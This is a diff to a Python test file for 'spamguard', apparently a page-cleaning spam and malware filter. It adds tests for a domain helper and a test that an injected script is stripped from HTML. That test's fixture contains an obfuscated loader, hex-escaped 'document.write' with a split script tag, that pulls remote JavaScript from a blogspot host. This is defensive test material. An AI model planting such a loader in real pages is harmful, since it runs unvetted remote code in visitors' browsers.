@@ -4,7 +4,8 @@ from __future__ import annotations
 
 import pytest
 
-from spamguard.examine.hosts import domain_of, own_domains, slug_of
+import spamguard
+from spamguard.examine.hosts import domain_of, own_domains, site_of, slug_of
 from spamguard.page.outline import outline_of
 from spamguard.page.tokens import view_of
 
@@ -47,3 +48,19 @@ def test_an_address_is_read_as_browsers_read_it() -> None:
 def test_codes_in_an_address_are_no_words() -> None:
     assert slug_of("https://ads.example.net/c?s=Kg0duQzAOiIGCMcBEL0TKg0duQzAOiIGCKsB") == "ads example net c s"
     assert slug_of("https://a.example.net/best-online-casino-2024") == "a example net best online casino 2024"
+
+
+def test_a_name_below_a_shared_domain_is_a_site_of_its_own() -> None:
+    assert site_of("https://club.github.io/a") == "club.github.io"
+    assert site_of("//a.b.example.net") == "b.example.net"
+    assert site_of("https://github.io/") == "github.io"
+    assert site_of("https://www.club.co.uk/") == "club.co.uk"
+    assert site_of("/a") is None
+
+
+def test_links_to_other_blogs_of_a_hoster_do_not_speak_for_a_script() -> None:
+    partners = "".join(f'<p><a href="https://club-{n}.blogspot.com/">Club {n}</a></p>\n' for n in range(4))
+    page = f"<!doctype html><title>Clubs</title><h1>Our clubs</h1>\n{partners}"
+    loader = "document['\\x77\\x72\\x69\\x74\\x65']('<script src=\"https://qkz77.blogspot.com/a.js\"></scr'+'ipt>')"
+    put_in = f"{page}<script>{loader}</script>"
+    assert spamguard.clean(put_in.encode(), path="page.html").data == page.encode()
